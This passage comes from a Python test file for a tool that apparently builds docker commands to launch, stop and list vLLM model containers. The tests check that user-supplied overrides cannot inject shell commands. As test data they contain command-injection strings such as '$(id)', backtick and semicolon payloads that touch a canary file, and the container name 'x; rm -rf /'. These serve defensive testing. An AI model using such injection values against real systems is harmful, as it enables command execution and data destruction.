            active.append(char)
    return "".join(active)


def test_only_the_cache_mount_is_left_for_the_node_shell(catalog):
    hostile = LaunchOverrides.parse({"extra_args": ["--x", "$(id); `id` | & > *"], "env": {"A": "$HOME ~ ;"}})
    for entry in catalog:
        for placement in _all_placements(entry):
            for overrides in (None, hostile):
                for command in build_launch_command(entry, placement, overrides).commands:
                    assert _shell_active(command.command) == '"$"', command.command
                    assert command.command.count('"$HOME"/.cache/huggingface:') == 1


@pytest.fixture()
def echo_docker(tmp_path):
    """A `docker` on PATH that writes its argv, NUL-separated, to stdout: what a node's shell really passes."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    stub = bin_dir / "docker"
    stub.write_text("#!/bin/sh\nprintf '%s\\0' \"$@\"\n")
    stub.chmod(0o755)
    return bin_dir


def _run_in_shell(command: str, bin_dir: Path, home: Path) -> list[str]:
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "HOME": str(home), "HF_TOKEN": "hf_not_in_argv"}
    out = subprocess.run(["sh", "-c", command], env=env, capture_output=True, check=True, cwd=home).stdout
    return ["docker", *out.decode().split("\0")[:-1]]


def test_a_real_shell_passes_exactly_the_argv_and_expands_home_on_the_node(catalog, echo_docker, tmp_path):
    canary = tmp_path / "canary"
    hostile = LaunchOverrides.parse({
        "extra_args": ["--x", f"$(touch {canary})", f"`touch {canary}`", f"; touch {canary}", "~", "*"],
        "env": {"EVIL": f"$(touch {canary}) && touch {canary}"}})
    home = tmp_path / "home"
    home.mkdir()
    for name, placement in [("gpt-oss-20b", (SPARK2,)), ("qwen3-235b-a22b", (SPARK1, SPARK2))]:
        plan = build_launch_command(catalog.get(name), Placement(placement), hostile)
        for command in plan.commands:
            expected = [arg.replace("$HOME/", f"{home}/", 1) if arg.startswith("$HOME/") else arg
                        for arg in command.argv]
            assert _run_in_shell(command.command, echo_docker, home) == expected
    assert not canary.exists()
    # Two docker invocations, joined by &&: the stub prints both argvs back to back.
    assert _run_in_shell(stop_command("spark-control-x"), echo_docker, home) == \
        ["docker", "stop", "-t", "30", "spark-control-x", "rm", "spark-control-x"]
    assert _run_in_shell(list_containers_command(), echo_docker, home)[-1] == "{{json .}}"


# --- stop / list ---------------------------------------------------------------------------------

def test_stop_and_list_commands():
    assert stop_command("spark-control-gpt-oss-20b") == \
        "docker stop -t 30 spark-control-gpt-oss-20b && docker rm spark-control-gpt-oss-20b"
    assert list_containers_command() == \
        "docker ps -a --no-trunc --filter label=spark-control.model --format '{{json .}}'"
    for hostile in ["x; rm -rf /", "-f", "$(id)", "a b"]:
        with pytest.raises(InvalidInput):
            stop_command(hostile)


def test_parse_container_list_reads_our_labels():
    rows = [
        {"Names": "spark-control-qwen3-235b-a22b", "State": "running", "Status": "Up 3 minutes",
         "Image": "nvcr.io/nvidia/vllm:26.01-py3",
         "Labels": "spark-control.model=qwen3-235b-a22b,spark-control.placement=spark1+spark2,"
                   "spark-control.port=8000,spark-control.role=head,spark-control.served-name=qwen3-235b"},
        {"Names": "unrelated", "State": "running", "Labels": "com.example=1"},
    ]
    output = "\n".join(json.dumps(row) for row in rows) + "\nWARNING: not json\n"
    [found] = parse_container_list(output)
    assert (found.name, found.model, found.served_name, found.role, found.placement, found.port, found.state) == \
        ("spark-control-qwen3-235b-a22b", "qwen3-235b-a22b", "qwen3-235b", "head", ("spark1", "spark2"), 8000,
         "running")


# --- docs ----------------------------------------------------------------------------------------

def test_every_field_and_bundled_model_is_documented(catalog):
    from app.model_schema import NodeRange, VllmArgs

    doc = (Path(__file__).resolve().parents[2] / "docs" / "MODELS.md").read_text()
    fields = [*ModelEntry.model_fields, *(f"vllm.{f}" for f in VllmArgs.model_fields),
              *(f"nodes.{f}" for f in NodeRange.model_fields), *LaunchOverrides.model_fields,
              "defaults", "replace", "MODELS_YAML", "MODELS_OVERRIDES"]
    missing = [f for f in fields if f"`{f}`" not in doc]
    assert not missing, f"undocumented in docs/MODELS.md: {missing}"
    undocumented_models = [e.name for e in catalog if f"`{e.name}`" not in doc or e.hf_repo not in doc]
    assert not undocumented_models, f"bundled models missing from the docs/MODELS.md table: {undocumented_models}"
